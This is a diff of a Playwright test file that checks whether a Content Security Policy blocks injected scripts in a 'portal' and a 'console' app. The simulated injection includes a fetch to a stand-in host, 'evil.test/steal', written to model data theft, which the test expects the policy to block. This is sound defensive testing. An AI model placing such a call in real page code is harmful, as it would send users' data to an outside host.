@@ -1,8 +1,8 @@
 import type { Page } from '@playwright/test';
 import { expect, test } from './fixtures.ts';
-import { where } from './urls.ts';
+import { urls } from './urls.ts';
 
-/** What an injection would do, as far as it gets. */
+/** Tries what an injected script would do. */
 const inject = (page: Page) =>
   page.evaluate(() => {
     const style = document.createElement('style');
@@ -14,27 +14,24 @@ const inject = (page: Page) =>
     void fetch('https://evil.test/steal').catch(() => {});
   });
 
-const planted = [
+const violations = [
   ['style-src-elem', /^console error: policy violated: style-src-elem inline$/],
   ['img-src', /^console error: policy violated: img-src https:\/\/evil\.test/],
   ['connect-src', /^console error: policy violated: connect-src https:\/\/evil\.test/],
 ] as const;
 
 for (const app of ['portal', 'console'] as const)
-  test(`a violation of the policy that is planted in the ${app} is heard, and would fail the test`, async ({
-    page,
-    trouble,
-  }) => {
-    await page.goto(where[app]);
+  test(`a seeded policy violation in the ${app} is recorded and would fail the test`, async ({ page, trouble }) => {
+    await page.goto(urls[app]);
     await page.waitForLoadState('load');
     await inject(page);
-    for (const [what, pattern] of planted)
+    for (const [what, pattern] of violations)
       await expect.poll(() => trouble.unexpected.some((each) => pattern.test(each)), { message: what }).toBe(true);
     trouble.expect(/policy violated/, /Content Security Policy/, /GET \/api\/me 401/, /evil\.test/);
   });
 
-test('what a script cannot do: make a page of text', async ({ page, trouble }) => {
-  await page.goto(where.portal);
+test('a script cannot turn text into HTML', async ({ page, trouble }) => {
+  await page.goto(urls.portal);
   const outcome = await page.evaluate(() => {
     const tried: string[] = [];
     const attempts = {
@@ -47,7 +44,7 @@ test('what a script cannot do: make a page of text', async ({ page, trouble }) =
         attempt();
         tried.push(name);
       } catch {
-        // refused, as it should be
+        // refused as expected
       }
     return tried;
   });
